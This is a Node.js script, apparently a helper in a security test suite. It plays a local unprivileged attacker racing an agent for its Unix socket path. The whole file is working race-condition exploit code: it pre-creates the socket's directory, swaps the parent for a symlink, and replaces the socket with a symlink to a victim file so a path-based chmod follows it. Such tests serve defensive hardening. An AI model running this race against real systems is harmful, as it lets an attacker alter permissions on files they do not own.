// A local attacker (run it under an unprivileged uid) racing the agent for its socket:
// it keeps creating the socket's directory if it is missing (so it would own it), or, every
// other time, puts a symlink to <linkTarget> where the directory's parent should be (so the
// agent would create its directories and socket somewhere the attacker chose), and keeps
// replacing the socket with a symlink to a file it must not touch (a chmod by path would
// follow it). Runs until killed or for <ms>; prints what it managed to do on SIGTERM.
//
//   node socket-attacker.mjs <socketPath> <victimFile> <ms> [linkTarget]
import fs from 'node:fs';
import path from 'node:path';

const [sock, victim, ms, linkTarget] = process.argv.slice(2);
const dir = path.dirname(sock);
const top = path.dirname(dir);
const end = Date.now() + Number(ms);
const tmp = path.join(dir, `.attacker-${process.pid}`);
const won = { created: 0, linked: 0, swapped: 0 };
let freeSeen = 0;
const pause = new Int32Array(new SharedArrayBuffer(4));
process.on('SIGTERM', () => {
  process.stdout.write(JSON.stringify(won) + '\n');
  process.exit(0);
});

function lexists(p) {
  try {
    fs.lstatSync(p);
    return true;
  } catch {
    return false;
  }
}

function round() {
  // Tight, synchronous: the window it is looking for is a few milliseconds wide.
  for (let i = 0; i < 200; i++) {
    try {
      if (!lexists(top)) {
        // Each time the path is free it takes turns between the two attacks, so every run of the
        // test sees both (alternating per try instead left it to chance which one a free path met).
        if (linkTarget && freeSeen++ % 2 === 0) {
          fs.symlinkSync(linkTarget, top);
          won.linked++;
        } else {
          fs.mkdirSync(dir, { recursive: true, mode: 0o755 });
          won.created++;
        }
      } else if (!fs.existsSync(dir)) {
        fs.mkdirSync(dir, { recursive: true, mode: 0o755 });
        won.created++;
      }
    } catch {}
    try {
      fs.rmSync(tmp, { force: true });
      fs.symlinkSync(victim, tmp);
      fs.renameSync(tmp, sock);
      won.swapped++;
    } catch {}
  }
  // Leaves the loaded test box some CPU for the agent it races.
  Atomics.wait(pause, 0, 0, 1);
  if (Date.now() < end) setImmediate(round);
  else process.stdout.write(JSON.stringify(won) + '\n');
}
round();
